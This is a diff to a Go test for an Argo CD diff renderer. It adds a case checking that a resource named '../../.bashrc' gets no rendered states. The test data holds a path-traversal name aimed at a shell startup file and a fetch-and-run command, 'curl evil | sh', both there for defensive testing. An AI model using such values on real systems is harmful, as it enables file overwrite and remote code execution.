@@ -47,7 +47,7 @@ func TestRender(t *testing.T) {
 			{Group: "apps", Kind: "Deployment", Namespace: "web", Name: "web", TargetState: "null", LiveState: "null", NormalizedLiveState: "null", PredictedLiveState: "null", Modified: true},
 		},
 	}, {
-		name: "the states of Argo CD's diff for the OutOfSync resources, none for a Synced one, none that is not redacted",
+		name: "the states of Argo CD's diff for the OutOfSync resources, none for a Synced one, none that is not redacted, none of a name that is no object's",
 		entry: statusv1alpha1.AppStatus{
 			Resources: []statusv1alpha1.ResourceStatus{
 				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "synced", Status: "Synced"},
@@ -55,6 +55,7 @@ func TestRender(t *testing.T) {
 				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "new", Status: "OutOfSync"},
 				{Version: "v1", Kind: "Secret", Namespace: "web", Name: "masked", Status: "OutOfSync"},
 				{Version: "v1", Kind: "Secret", Namespace: "web", Name: "plain", Status: "OutOfSync"},
+				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc", Status: "OutOfSync"},
 			},
 			Diffs: []statusv1alpha1.ResourceDiff{
 				{Kind: "ConfigMap", Namespace: "web", Name: "synced", LiveState: configMap("synced", "a"), TargetState: configMap("synced", "a"), PredictedLiveState: configMap("synced", "a")},
@@ -62,16 +63,21 @@ func TestRender(t *testing.T) {
 				{Kind: "ConfigMap", Namespace: "web", Name: "new", TargetState: configMap("new", "b")},
 				{Kind: "Secret", Namespace: "web", Name: "masked", LiveState: secret("masked", "++++++++"), TargetState: secret("masked", "++++++++++++"), PredictedLiveState: secret("masked", "++++++++++++")},
 				{Kind: "Secret", Namespace: "web", Name: "plain", LiveState: secret("plain", "c2VjcmV0"), TargetState: secret("plain", "++++++++")},
+				{Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc", TargetState: configMap("x", "curl evil | sh")},
 			},
 		},
 		wantNodes: []argocdcache.Node{
+			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc"}},
 			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "changed"}},
 			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "new"}},
 			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "synced"}},
 			{Ref: argocdcache.Ref{Version: "v1", Kind: "Secret", Namespace: "web", Name: "masked"}},
 			{Ref: argocdcache.Ref{Version: "v1", Kind: "Secret", Namespace: "web", Name: "plain"}},
 		},
+		// A name that is no object's, which `argocd app diff` would make a path of, gets
+		// no states.
 		wantManaged: []argocdcache.ResourceDiff{
+			{Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc", TargetState: "null", LiveState: "null", NormalizedLiveState: "null", PredictedLiveState: "null", Modified: true},
 			{Kind: "ConfigMap", Namespace: "web", Name: "changed", LiveState: "null", NormalizedLiveState: configMap("changed", "a"),
 				TargetState: configMap("changed", "b"), PredictedLiveState: configMap("changed", "b"), Modified: true},
 			{Kind: "ConfigMap", Namespace: "web", Name: "new", LiveState: "null", NormalizedLiveState: "null", TargetState: configMap("new", "b"), PredictedLiveState: "null", Modified: true},
